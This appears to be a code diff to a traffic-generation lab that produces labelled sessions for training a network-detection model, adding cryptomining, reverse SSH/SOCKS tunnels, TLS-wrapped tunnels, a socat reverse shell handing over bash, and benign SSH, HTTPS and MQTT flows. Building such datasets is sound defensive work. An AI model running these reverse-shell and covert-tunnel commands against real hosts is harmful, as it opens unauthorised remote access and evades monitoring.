@@ -57,13 +57,18 @@ class Lab:
     def dir(self) -> Path:
         return self.topo.workdir
 
-    def hosts(self) -> tuple[str, str]:
-        """A fresh inside host and outside server address for one session."""
+    def hosts(self, inside: object = None) -> tuple[str, str]:
+        """An inside host and a fresh outside server address for one session. The inside host is
+        fresh too, unless `inside` names one (sessions that share a machine)."""
         with self._lock:
-            pair = self.topo.inside_ip(self._next_in), self.topo.outside_ip(self._next_out)
-            self._next_in += 1
+            if inside is None:
+                client = self.topo.inside_ip(self._next_in)
+                self._next_in += 1
+            else:
+                client = self.topo.inside_ip(int(inside))  # type: ignore[call-overload]
+            server = self.topo.outside_ip(self._next_out)
             self._next_out += 1
-        return pair
+        return client, server
 
     def forward_port(self) -> int:
         with self._lock:
@@ -157,7 +162,7 @@ def typist(lab: Lab, duration: float, seed: int, cmd: list[str]) -> list[str]:
 # -- mining ---------------------------------------------------------------------------------------
 def mining(lab: Lab, s: Session) -> None:
     """A stratum pool outside and a miner inside. tls: False, True (Python ssl) or "stunnel"."""
-    client, server = lab.hosts()
+    client, server = lab.hosts(s.params.get("inside_host"))
     p = s.params
     port = int(p["port"])  # type: ignore[call-overload]
     lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
@@ -186,7 +191,7 @@ def mining(lab: Lab, s: Session) -> None:
 # -- reverse tunnels ------------------------------------------------------------------------------
 def reverse_tunnel(lab: Lab, s: Session) -> None:
     """`ssh -N -R` (or autossh) from inside; the outside later uses it: a shell, a file, or nothing."""
-    client, server = lab.hosts()
+    client, server = lab.hosts(s.params.get("inside_host"))
     p = s.params
     port = int(p["port"])  # type: ignore[call-overload]
     fwd = lab.forward_port()
@@ -314,3 +319,177 @@ def quote(argv: list[str]) -> str:
 
 def as_dict(conv: Conversation) -> dict[str, object]:
     return asdict(conv)
+
+
+# -- more of each family (issue "Detection quality") ---------------------------------------------
+def mining_nat(lab: Lab, s: Session) -> None:
+    """Several miners behind one NAT address, each its own connection to the same pool."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    pool = py("training.lab.stratum", "pool", "--listen", f"{server}:{port}", "--dialect",
+              p["dialect"], "--job-min", p["job_min"], "--job-max", p["job_max"], "--seed", p["seed"])
+    lab.topo.spawn("out", pool, f"{s.id}-pool")
+    for i in range(int(p["miners"])):  # type: ignore[call-overload]
+        if not lab.sleep_until(s.start + 7 * i):
+            return
+        miner = py("training.lab.stratum", "miner", "--connect", f"{server}:{port}", "--dialect",
+                   p["dialect"], "--hashrate", float(p["hashrate"]) * lab.rng.uniform(0.3, 2),  # type: ignore[arg-type]
+                   "--bind", client, "--duration", max(lab.remaining() - 4, 5),
+                   "--seed", int(p["seed"]) + i)  # type: ignore[call-overload]
+        lab.topo.spawn("in", miner, f"{s.id}-miner{i}")
+
+
+def reverse_socks(lab: Lab, s: Session) -> None:
+    """`ssh -R PORT` (reverse dynamic SOCKS): the outside side browses the inside network."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    fwd = lab.forward_port()
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    start_sshd(lab, "out", server, port, s.id)
+    if not lab.sleep_until(s.start):
+        return
+    alive = int(p["alive"])  # type: ignore[call-overload]
+    lab.topo.spawn("in", ssh_client(lab, "-N", "-R", f"127.0.0.1:{fwd}", "-b", client, "-p", str(port),
+                                    "-o", f"ServerAliveInterval={alive or 0}", f"root@{server}"),
+                   f"{s.id}-tunnel")
+    t = s.start + float(p["idle_before"])  # type: ignore[arg-type]
+    for size in p["fetches"]:  # type: ignore[attr-defined]
+        if not lab.sleep_until(t):
+            return
+        lab.topo.run("out", "curl", "-s", "--max-time", "60", "--socks5-hostname", f"127.0.0.1:{fwd}",
+                     "-o", "/dev/null", f"http://127.0.0.1:8000/f{size}", check=False)
+        t = time.monotonic() - lab.t0 + lab.rng.uniform(3, 40)
+
+
+def reverse_ssh_stunnel(lab: Lab, s: Session) -> None:
+    """`ssh -R` carried inside TLS by stunnel (port 443 looks like HTTPS), used for a shell."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    fwd = lab.forward_port()
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    local, backend = stunnel_pair(lab, s, client, server, port)
+    start_sshd(lab, "out", "127.0.0.1", backend, s.id)
+    if not lab.sleep_until(s.start):
+        return
+    lab.topo.spawn("in", ssh_client(lab, "-N", "-R", f"127.0.0.1:{fwd}:127.0.0.1:22", "-p", str(local),
+                                    "-o", "ServerAliveInterval=30", "root@127.0.0.1"), f"{s.id}-tunnel")
+    if not lab.sleep_until(s.start + float(p["idle_before"])):  # type: ignore[arg-type]
+        return
+    dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
+    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]),  # type: ignore[call-overload]
+                                 ssh_client(lab, "-tt", "-p", str(fwd), "root@127.0.0.1")), f"{s.id}-use")
+
+
+def reverse_shell_tls(lab: Lab, s: Session) -> None:
+    """A reverse shell over TLS: the inside host connects out with socat and hands over bash; the
+    outside side types commands into it."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    tls = lab.dir / "tls"
+    if not lab.sleep_until(s.start):
+        return
+    dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
+    listener = ["socat", "STDIO",
+                f"OPENSSL-LISTEN:{port},bind={server},reuseaddr,cert={tls / 'cert.pem'},"
+                f"key={tls / 'key.pem'},verify=0"]
+    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]), listener), f"{s.id}-listener")  # type: ignore[call-overload]
+    time.sleep(1.0)
+    lab.topo.spawn("in", ["socat", f"OPENSSL:{server}:{port},bind={client},verify=0",
+                          "EXEC:bash -i,pty,stderr,setsid,sigint,sane"], f"{s.id}-shell")
+
+
+def reverse_wstunnel(lab: Lab, s: Session) -> None:
+    """A chisel-like WebSocket reverse tunnel (training/lab/wstunnel.py) to the inside sshd."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    fwd = lab.forward_port()
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    srv = py("training.lab.wstunnel", "server", "--listen", f"{server}:{port}",
+             "--expose", f"127.0.0.1:{fwd}")
+    if p["tls"]:
+        srv += ["--tls", "--cert", str(lab.dir / "tls" / "cert.pem"),
+                "--key", str(lab.dir / "tls" / "key.pem")]
+    lab.topo.spawn("out", srv, f"{s.id}-server")
+    if not lab.sleep_until(s.start):
+        return
+    scheme = "wss" if p["tls"] else "ws"
+    lab.topo.spawn("in", py("training.lab.wstunnel", "agent", "--connect", f"{scheme}://{server}:{port}/ws",
+                            "--target", "127.0.0.1:22", "--bind", client,
+                            "--duration", round(max(lab.remaining() - 3, 5)), "--seed", p["seed"]),
+                   f"{s.id}-agent")
+    if not lab.sleep_until(s.start + float(p["idle_before"])):  # type: ignore[arg-type]
+        return
+    dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
+    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]),  # type: ignore[call-overload]
+                                 ssh_client(lab, "-tt", "-p", str(fwd), "root@127.0.0.1")), f"{s.id}-use")
+
+
+def ssh_transfer(lab: Lab, s: Session) -> None:
+    """Benign bulk and short SSH uses: sftp, rsync over ssh, git clone over ssh."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    start_sshd(lab, "out", server, port, s.id)
+    key = str(lab.dir / "ssh" / "id_ed25519")
+    ssh_cmd = " ".join(["ssh", "-i", key, *SSH_OPTS, "-o", f"BindAddress={client}", "-p", str(port)])
+    t = s.start
+    for i, (tool, size) in enumerate(p["ops"]):  # type: ignore[attr-defined]
+        if not lab.sleep_until(t):
+            return
+        dst = lab.dir / "files" / f"{s.id}-{i}"
+        if tool == "sftp":
+            batch = lab.dir / "files" / f"{s.id}-{i}.sftp"
+            batch.write_text(f"get {lab.dir / 'files' / f'f{size}'} {dst}\nls\n")
+            argv = ["sftp", "-i", key, *SSH_OPTS, "-o", f"BindAddress={client}", "-P", str(port),
+                    "-b", str(batch), f"root@{server}"]
+        elif tool == "rsync":
+            argv = ["rsync", "-a", "-e", ssh_cmd, f"root@{server}:{lab.dir / 'files' / f'f{size}'}", str(dst)]
+        else:
+            argv = ["git", "clone", "-q", "--config", f"core.sshCommand={ssh_cmd}",
+                    f"ssh://root@{server}{lab.dir / 'repo.git'}", str(dst)]
+        lab.topo.run("in", *argv, check=False)
+        t = time.monotonic() - lab.t0 + lab.rng.uniform(5, 60)
+
+
+def long_download(lab: Lab, s: Session) -> None:
+    """A long, rate-limited HTTPS download (a long-lived flow that is benign)."""
+    client = lab.hosts()[0]
+    server = lab.topo.outside_ip(250)
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, 443))
+    if not lab.sleep_until(s.start):
+        return
+    lab.topo.run("in", "curl", "-sk", "--interface", client, "--limit-rate", str(s.params["rate"]),
+                 "--max-time", str(round(max(lab.remaining() - 3, 5))), "-o", "/dev/null",
+                 f"https://{server}/f{s.params['size']}", check=False)
+
+
+def mqtt(lab: Lab, s: Session) -> None:
+    """MQTT (mosquitto): a subscriber with keepalive pings and publishes now and then."""
+    client, server = lab.hosts()
+    p = s.params
+    port = int(p["port"])  # type: ignore[call-overload]
+    lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
+    conf = lab.dir / f"mosquitto-{s.id}.conf"
+    conf.write_text(f"listener {port} {server}\nallow_anonymous true\npersistence false\n")
+    lab.topo.spawn("out", ["mosquitto", "-c", str(conf)], f"{s.id}-broker")
+    if not lab.sleep_until(s.start):
+        return
+    lab.topo.spawn("in", ["mosquitto_sub", "-h", server, "-p", str(port), "-A", client, "-t", "sensors/#",
+                          "-k", str(p["keepalive"]), "--id", s.id], f"{s.id}-sub")
+    t = s.start + 2
+    while lab.sleep_until(t):
+        lab.topo.run("out", "mosquitto_pub", "-h", server, "-p", str(port), "-t", "sensors/t1",
+                     "-m", json_reading(lab), check=False)
+        t += lab.rng.expovariate(1 / float(p["publish_every"]))  # type: ignore[arg-type]
+
+
+def json_reading(lab: Lab) -> str:
+    return f'{{"temp": {lab.rng.uniform(18, 30):.2f}, "hum": {lab.rng.uniform(20, 80):.1f}}}'
